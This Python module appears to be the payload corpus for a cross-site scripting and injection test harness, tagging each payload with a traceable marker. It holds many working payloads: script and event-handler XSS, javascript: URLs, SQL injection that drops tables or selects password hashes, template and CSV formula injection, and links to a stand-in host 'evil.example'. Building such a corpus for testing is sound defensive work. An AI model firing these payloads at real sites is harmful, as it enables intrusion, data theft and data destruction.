"""The XSS and injection corpus for xss.py.

Each payload is a template in which `{M}` stands for a marker: a short lowercase
alphanumeric word (`zx` + a two-letter field code + a three-digit payload number + `q`)
that is unique to one payload in one field. Markers survive any escaping, search
tokenisation and email lower-casing, so whatever a page shows can be traced back to
the field and payload that put it there. Script payloads call `alert('{M}')` or set
`window.__xss`; the browser pass hooks both.

Every template keeps at least one `{M}` in a place that stays visible text when the
payload is escaped correctly (for Markdown fields too: a dropped link keeps its words),
so a payload that vanishes from the page it was sent to is noticed.
"""

import re

MARKER_RE = re.compile(r"zx([a-z]{2})(\d{3})q")
JS = "alert('{M}')"
ONE_MB = 1_000_000


def marker(field, number):
    return f"zx{field}{number:03d}q"


class Payload:
    def __init__(self, number, category, template):
        self.number = number
        self.category = category
        self.template = template

    def text(self, field):
        return self.template.replace("{M}", marker(field, self.number))

    @property
    def huge(self):
        return len(self.template) > 100_000

    def __repr__(self):
        shown = self.template if len(self.template) < 90 else self.template[:60] + f"...({len(self.template)} chars)"
        return f"#{self.number} [{self.category}] {shown!r}"


_RAW = []


def _add(category, *templates):
    for template in templates:
        _RAW.append((category, template))


# --- script tags -------------------------------------------------------------------
_add("script",
     "<script>" + JS + "</script>{M}",
     "{M}<SCRIPT>" + JS + "</SCRIPT>",
     "<ScRiPt>window.__xss='{M}'</sCrIpT>",
     "<script src=https://evil.example/{M}.js></script>{M}",
     "<script src=\"/assets/app.js?{M}\"></script>{M}",
     "<script/xss>" + JS + "</script>{M}",
     "<scr<script>ipt>" + JS + "</scr</script>ipt>{M}",
     "<<script>" + JS + "//<</script>{M}",
     "</script><script>" + JS + "</script>{M}",
     "</textarea><script>" + JS + "</script>{M}",
     "</title><script>" + JS + "</script>{M}",
     "\"><script>" + JS + "</script>{M}",
     "<noscript><p title=\"</noscript><script>" + JS + "</script>\">{M}</p></noscript>",
     "</option></select><script>" + JS + "</script>{M}",
     )

# --- event handlers ------------------------------------------------------------------
_add("event-handler",
     "<img src=x onerror=" + JS + ">{M}",
     "<IMG SRC=x ONERROR=window.__xss='{M}'>",
     "<img src=x:alert(1) onerror=eval(src)>{M}",
     "<img src=x onerror=\"&#97;lert('{M}')\">",
     "<svg onload=" + JS + ">{M}",
     "<body onload=" + JS + ">{M}",
     "<input autofocus onfocus=" + JS + ">{M}",
     "<details open ontoggle=" + JS + ">{M}</details>",
     "<video><source onerror=" + JS + "></video>{M}",
     "<iframe onload=" + JS + "></iframe>{M}",
     "<div onmouseover=\"" + JS + "\">{M}</div>",
     "<a onclick=\"" + JS + "\" href=\"#\">{M}</a>",
     "<object data=x onerror=" + JS + ">{M}</object>",
     "<style onload=" + JS + ">{M}</style>",
     "<form><button formaction=javascript:" + JS + ">{M}</button></form>",
     "\" onmouseover=\"" + JS + "\" x=\"{M}",
     "' onfocus='" + JS + "' autofocus='{M}",
     "\" autofocus onfocus=" + JS + " x=\"{M}",
     "{M}\"><img src=x onerror=" + JS + ">",
     "{M}'><img src=x onerror=" + JS + ">",
     "<img/src=x/onerror=" + JS + ">{M}",
     )

# --- javascript:, data: and vbscript: URLs --------------------------------------------
_add("url-scheme",
     "javascript:" + JS + "//{M}",
     "JaVaScRiPt:" + JS + "//{M}",
     " javascript:" + JS + "//{M}",
     "java\tscript:" + JS + "//{M}",
     "&#106;avascript:" + JS + "//{M}",
     "javascript&colon;" + JS + "//{M}",
     "data:text/html,<script>" + JS + "</script>{M}",
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}",
     "vbscript:msgbox(\"{M}\")",
     "https://example.org/{M}\"onmouseover=\"" + JS,
     "//evil.example/{M}",
     "https://example.org/?q=<script>" + JS + "</script>&m={M}",
     "<a href=\"javascript:" + JS + "\">{M}</a>",
     "<a href=\"jav&#x09;ascript:" + JS + "\">{M}</a>",
     "<iframe src=\"javascript:" + JS + "\"></iframe>{M}",
     "<iframe src=\"data:text/html,<script>" + JS + "</script>\"></iframe>{M}",
     "<embed src=\"data:image/svg+xml,<svg onload=" + JS + ">\">{M}",
     "<object data=\"javascript:" + JS + "\"></object>{M}",
     "<form action=\"javascript:" + JS + "\"><input type=submit value={M}></form>",
     "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + JS + "\">{M}",
     "<base href=\"javascript:/{M}/\">",
     "<math href=\"javascript:" + JS + "\">{M}</math>",
     )

# --- SVG ------------------------------------------------------------------------------
_add("svg",
     "<svg><script>" + JS + "</script></svg>{M}",
     "<svg/onload=" + JS + ">{M}",
     "<svg><animate onbegin=" + JS + " attributeName=x dur=1s>{M}",
     "<svg><a xlink:href=\"javascript:" + JS + "\"><text x=20 y=20>{M}</text></a></svg>",
     "<svg><set attributeName=href to=javascript:" + JS + " />{M}</svg>",
     "<svg><foreignObject><iframe src=javascript:" + JS + "></iframe></foreignObject></svg>{M}",
     "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='" + JS + "'/></svg>#x\"/></svg>{M}",
     "<svg><style>*{fill:red}</style><text>{M}</text></svg>",
     "<svg><image href=x onerror=" + JS + " />{M}</svg>",
     )

# --- broken and nested markup -----------------------------------------------------------
_add("broken-markup",
     "<<img src=x onerror=" + JS + ">>{M}",
     "<img src=x onerror=" + JS + "//{M}",
     "<img src=\"x{M}",
     "<!--<img src=\"--><img src=x onerror=" + JS + ">{M}",
     "<![CDATA[<script>" + JS + "</script>]]>{M}",
     "<style><img src=x onerror=" + JS + "></style>{M}",
     "<title></title><img src=x onerror=" + JS + ">{M}",
     "</div></main></body><script>" + JS + "</script>{M}",
     "<xmp><img src=x onerror=" + JS + "></xmp>{M}",
     "<plaintext>{M}",
     "<iframe srcdoc=\"&lt;script&gt;" + JS + "&lt;/script&gt;\"></iframe>{M}",
     "<template><script>" + JS + "</script></template>{M}",
     "<a href=\"x\" <img src=x onerror=" + JS + ">{M}</a>",
     "<div style=\"background:url(javascript:" + JS + ")\">{M}</div>",
     "<style>*{background:red}</style>{M}",
     "<!-- {M} -->",
     "--><script>" + JS + "</script>{M}",
     )

# --- Markdown link and image tricks -----------------------------------------------------
_add("markdown",
     "[{M}](javascript:" + JS + ")",
     "[{M}]( javascript:" + JS + ")",
     "[{M}](&#106;avascript:" + JS + ")",
     "[{M}](java%0ascript:" + JS + ")",
     "[{M}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "[{M}](//evil.example/x)",
     "![{M}](javascript:" + JS + ")",
     "![{M}](https://example.org/a.png\"onerror=\"" + JS + ")",
     "[{M}](https://example.org/\"><script>" + JS + "</script>)",
     "[<img src=x onerror=" + JS + ">{M}](https://example.org)",
     "<javascript:" + JS + ">{M}",
     "[{M}][r]\n\n[r]: javascript:" + JS,
     "`<script>" + JS + "</script>` {M}",
     "```\n<script>" + JS + "</script>\n```\n{M}",
     "> <script>" + JS + "</script>\n> {M}",
     "**<img src=x onerror=" + JS + ">** {M}",
     "# <script>" + JS + "</script> {M}",
     "[![{M}](https://example.org/i.png)](javascript:" + JS + ")",
     "[{M}](https://example.org/ \"title\" onclick=\"" + JS + "\")",
     "[{M}](mailto:a@example.org\"onclick=\"" + JS + ")",
     "<https://example.org/\"onmouseover=\"" + JS + "\">{M}",
     "<div>\n<script>" + JS + "</script>\n</div>\n\n{M}",
     "[a](https://example.org/\x00javascript:" + JS + ") {M}",
     "[{M}](<javascript:" + JS + ">)",
     # Ink passes `&` and what follows up to `;` through as if it were a character reference.
     "{M} &a<img/src=x/onerror=" + JS + ">;",
     "&x<script>" + JS + "</script>;{M}",
     )

# --- Unicode direction overrides and other invisible characters ---------------------------
_add("unicode",
     "\u202e{M}gnp.exe",
     "{M}\u202e<script>" + JS + "</script>",
     "\u2066\u2067{M}\u2069\u2069<img src=x onerror=" + JS + ">",
     "\u200b<\u200bscript>" + JS + "</script>{M}",
     "\ufeff<script>" + JS + "</script>{M}",
     "\uff1cscript\uff1e" + JS + "\uff1c/script\uff1e{M}",
     "{M}\u2028<script>" + JS + "</script>\u2029",
     "\u0000\u202e{M}",
     "{M} \U0001F600 \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
     )

# --- NUL bytes and other control characters -------------------------------------------------
_add("control",
     "<scr\x00ipt>" + JS + "</scr\x00ipt>{M}",
     "\x00<script>" + JS + "</script>{M}",
     "{M}\x00",
     "<img src=x onerror\x00=" + JS + ">{M}",
     "[{M}](java\x00script:" + JS + ")",
     "{M}\x02mark\x03<script>" + JS + "</script>",
     "{M}\x1b[31mred\x1b[0m\x07\x08",
     "{M}\r\n\r\nSet-Cookie: xss=1",
     )

# --- SQL fragments ------------------------------------------------------------------------
_add("sql",
     "' OR '1'='1 {M}",
     "{M}'; DROP TABLE user; --",
     "\" OR 1=1 -- {M}",
     "{M}' UNION SELECT passwordHash, email FROM user --",
     "{M}%' AND 1=0 UNION SELECT sqlite_version() --",
     "{M} \" NEAR( * ) OR title:x AND -y",
     "{M} ' || (SELECT group_concat(email) FROM user) || '",
     )

# --- Mustache and other template delimiters --------------------------------------------------
_add("template",
     "{M}{{csrfToken}}",
     "{{{body}}}{M}",
     "{M}{{#person}}[{{name}}]{{/person}}",
     "{{=<% %>=}}<% csrfToken %>{M}",
     "{M}{{> layout}}",
     "{M}{{&title}}",
     "{M}{{constructor.constructor('" + JS + "')()}}",
     "{M}${" + JS + "}",
     "{M}<%= 7*7 %>#{7*7}",
     )

# --- entities, CSV formulas, polyglots --------------------------------------------------------
_add("misc",
     "&lt;script&gt;" + JS + "&lt;/script&gt;{M}",
     "&#x3C;img src=x onerror=" + JS + "&#x3E;{M}",
     "=HYPERLINK(\"https://evil.example/?{M}\",\"x\")",
     "@SUM(1+1)*cmd|' /C calc'!A0 {M}",
     "+{M}",
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" + JS + " )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=" + JS + "//>\\x3e{M}",
     "'\"--></style></script><script>" + JS + "</script>{M}",
     "{M}" + "<b>" * 40,
     )

# --- values a form takes as a URL or an email address, with something hidden inside -------
_add("valid-but-hostile",
     "https://example.org/{M}'onmouseover='" + JS,
     "https://example.org/{M}#javascript:" + JS,
     "HTTPS://EXAMPLE.ORG/{M}?q=%22%3E%3Cscript%3E" + JS + "%3C/script%3E",
     "https://user:pass@evil.example/{M}",
     "https://example.org/{M}/\u202etxt.exe",
     "https://example.org/{M}{{csrfToken}}",
     "{M}'onmouseover=" + JS + "@example.org",
     "javascript:" + JS + "//@example.org",
     "{M}+{{csrfToken}}@example.org",
     "{M}&amp;x=1@example.org",
     )

# --- 1 MB strings -----------------------------------------------------------------------------
_add("huge",
     "{M}" + "A" * ONE_MB + "<script>" + JS + "</script>",
     "{M}<img src=x onerror=" + JS + ">" + "\u00e9" * (ONE_MB // 2),
     )

PAYLOADS = [Payload(number, category, template) for number, (category, template) in enumerate(_RAW, start=1)]

assert all("{M}" in p.template for p in PAYLOADS), "every payload carries its marker"
assert len({p.template for p in PAYLOADS}) == len(PAYLOADS), "no duplicate payloads"


def by_number(number):
    return PAYLOADS[number - 1]


def parse_marker(text):
    """(field, number) of the first marker in `text`, or None."""
    match = MARKER_RE.search(text)
    return (match.group(1), int(match.group(2))) if match else None


if __name__ == "__main__":
    from collections import Counter
    print(len(PAYLOADS), "payloads:", dict(Counter(p.category for p in PAYLOADS)))
